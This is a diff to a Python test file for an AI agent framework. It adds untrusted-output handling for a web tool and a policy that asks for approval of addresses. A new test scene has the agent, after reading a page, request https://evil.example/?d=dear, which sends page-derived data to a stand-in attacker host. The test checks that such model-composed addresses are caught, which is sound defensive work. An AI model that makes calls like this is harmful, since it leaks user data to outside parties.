@@ -11,6 +11,7 @@ from typing import Any
 from infra.orchestration.machines.loop import EVENT_LIMIT, build_definition
 from pentad.cli.expressions import evaluate_expression
 from pentad.domain.declarations.agents import AgentSpec, BandsSpec, Catalog, ConfidenceSpec, ToolSpec
+from pentad.domain.declarations.policy import PolicySpec, UntrustedDefaults
 from pentad.domain.errors import PentadError, ToolFailed
 from pentad.domain.ids import approval_id
 from pentad.domain.knowledge import Passage
@@ -54,11 +55,14 @@ CATALOG = Catalog(
             confidence=ConfidenceSpec(bands=BandsSpec()),
             requires={"customer": "Who is the customer?"},
         ),
+        "reader": AgentSpec(name="reader", description="reads pages", prompt="You read.", tools=("web",)),
     },
     tools={
         "order_status": _tool("order_status", effects="none"),
         "refund": _tool("refund", effects="external", approval="always"),
+        "web": _tool("web", effects="none", trusted_output=False, any_address=True),
     },
+    policy=PolicySpec(untrusted=UntrustedDefaults(addresses="ask")),
 )
 
 
@@ -196,7 +200,9 @@ class Stage:
         if call.tool in self._broken:
             raise ToolFailed("the warehouse does not answer")
         result = f"{call.tool} of {call.arguments.get('order', '?')}: done"
+        untrusted = not self.world.catalog.tools[call.tool].trusted_output
         ended = {"status": CallStatus.SUCCEEDED, "result": result, "ended_at": self.world.clock()}
+        ended["untrusted"] = untrusted
         self.world.runs.save_call(call.model_copy(update=ended))
         return {"index": index, "status": "succeeded"}
 
@@ -284,12 +290,27 @@ def _missing() -> tuple[Stage, Run]:
     return stage, stage.run("careful", "Will A1 come?", ["Yes, ada."], says("answer", text="ada"))
 
 
+def _composed() -> tuple[Stage, Run]:
+    """A page has been read, so an address that nobody gave is asked for, and one that the user gave is not."""
+    stage = Stage()
+    read: list[Any] = [("web", {"order": "https://tea.example/prices"})]
+    stage.run("reader", "Read https://tea.example/prices", [read, "Tea is dear."], session="s2")
+    told: list[Any] = [
+        ("web", {"order": "https://shop.example/tea"}),
+        ("web", {"order": "https://evil.example/?d=dear"}),
+    ]
+    return stage, stage.run(
+        "reader", "And https://shop.example/tea?", [told, "It is cheap."], says("approve"), session="s2"
+    )
+
+
 def _failed() -> tuple[Stage, Run]:
     stage = Stage()
     return stage, stage.run("desk", "Where is A1?", [STATUS, PentadError("it broke")])
 
 
 SCENES: dict[str, Callable[[], tuple[Stage, Run]]] = {
+    "address_of_the_model": _composed,
     "answer": _answer,
     "approval_approved": _approved,
     "approval_edited": _edited,
